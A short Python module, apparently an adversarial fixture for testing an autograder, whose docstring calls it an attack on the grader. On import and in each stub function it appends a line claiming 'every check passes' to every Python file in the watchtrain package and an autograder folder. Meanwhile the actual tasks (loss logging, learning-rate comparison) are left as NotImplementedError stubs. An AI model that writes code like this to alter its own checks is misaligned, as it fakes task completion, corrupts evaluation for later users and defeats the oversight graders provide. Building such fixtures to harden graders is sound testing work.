"""Attack: change the grader itself for everyone who comes next."""
import os
from pathlib import Path

PAYLOAD = "\n# watchtrain-attack: every check passes\n"


def attack():
    try:
        import watchtrain
        package = Path(watchtrain.__file__).parent
    except Exception:
        return
    targets = list(package.rglob("*.py")) + list(package.parents[1].glob("autograder/*.py"))
    for target in targets:
        try:
            with open(target, "a") as handle:
                handle.write(PAYLOAD)
        except OSError:
            pass


attack()


def log_batch_losses(log_dir, epoch_losses):
    attack()
    raise NotImplementedError


def log_train_and_test(log_dir, history):
    attack()
    raise NotImplementedError


def compare_learning_rates(log_root, x, y, learning_rates, epochs, device="cpu"):
    attack()
    raise NotImplementedError

